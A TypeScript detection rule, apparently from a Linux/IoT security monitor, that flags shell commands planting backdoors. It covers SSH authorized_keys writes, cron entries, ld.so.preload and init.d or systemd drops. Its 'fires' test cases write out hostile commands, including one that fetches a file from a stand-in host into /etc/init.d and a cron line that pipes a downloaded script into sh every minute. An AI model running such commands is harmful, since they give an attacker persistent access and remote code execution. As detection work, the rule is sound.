import { commandRule } from "../../command-rule.js";
import { ancestryOf, hasFlag, parentOf, writesTo } from "../../shell/look.js";

const KEYS = /\.ssh\/authorized_keys\d?$/;
const STARTS =
  /^(?:\/etc\/(?:cron\.\w+\/|crontab$|rc\.local$|ld\.so\.preload$|init\.d\/|profile\.d\/)|\/var\/spool\/cron\/|\/etc\/systemd\/system\/)/;

/** A way back in is put in place by a command: a file that is fetched and planted where it starts by itself, a key, or a table of cron with a download in it. */
export const backdoorOpened = commandRule({
  id: "backdoor-opened",
  alertType: "IoT_LinuxBackdoor",
  name: "Possible backdoor detected",
  severity: "Medium",
  about:
    "A way back in is put in place by a command: a file that is fetched and planted where it starts by itself, a key, or a table of cron with a download in it.",
  tactics: ["Persistence", "Command and Control"],
  techniques: ["T1098.004", "T1053.003", "T1546.004", "T1105"],
  falsePositives: [
    "Configuration management writes keys and cron tables too; it does so with its own program and not with a shell.",
    "ssh-copy-id adds a key from somebody's own machine.",
  ],
  witness: [
    "authorized_keys",
    "crontab",
    "/etc/cron",
    "ld.so.preload",
    "rc.local",
    "/etc/profile.d",
    "/etc/init.d",
    ".bashrc",
    "systemd/system",
  ],
  sees: (reading, event) => {
    if (
      /\/(?:dpkg|apt-get|apt|rpm|apk|opkg|ssh-copy-id|ansible\S*|puppet|salt-minion|chef-client|cloud-init)\b/.test(
        `${parentOf(event)}\n${ancestryOf(event)}`,
      )
    )
      return undefined;
    return (
      writesTo(reading, KEYS, ({ name }) => /^(?:echo|printf|cat|tee|curl|wget)$/.test(name)) ??
      writesTo(reading, STARTS, ({ name }) => /^(?:curl|wget)$/.test(name)) ??
      writesTo(
        reading,
        /^(?:\/etc\/(?:cron\S*|rc\.local|ld\.so\.preload)|\/var\/spool\/cron\/\S+)$/,
        ({ name }) => /^(?:echo|printf|tee)$/.test(name),
      ) ??
      reading.pipelines
        .find(
          (commands) =>
            commands.length > 1 &&
            commands.at(-1)?.name === "crontab" &&
            !hasFlag(commands.at(-1)!, "l", "r", "e"),
        )
        ?.map(({ text }) => text)
        .join(" | ")
    );
  },
  did: "put a way back in place",
  because: "it lets somebody in or starts a program later",
  fires: [
    "sh -c echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
    "bash -c (crontab -l; echo x) | crontab -",
    "sh -c echo /tmp/l.so > /etc/ld.so.preload",
    "wget -q http://203.0.113.9/x -O /etc/init.d/x",
    "sh -c echo '* * * * * curl -s http://203.0.113.9/i|sh' | crontab -",
  ],
  silent: [
    "crontab -l",
    "cat /root/.ssh/authorized_keys",
    "run-parts /etc/cron.hourly",
    "ssh-copy-id op@10.0.0.2",
    "cp backup.service /etc/systemd/system/backup.service",
    "crontab /home/op/crontab.txt",
    { line: "sh -c cat > /root/.ssh/authorized_keys", parent: "/usr/bin/cloud-init" },
    "chmod 600 /home/op/.ssh/authorized_keys",
  ],
});
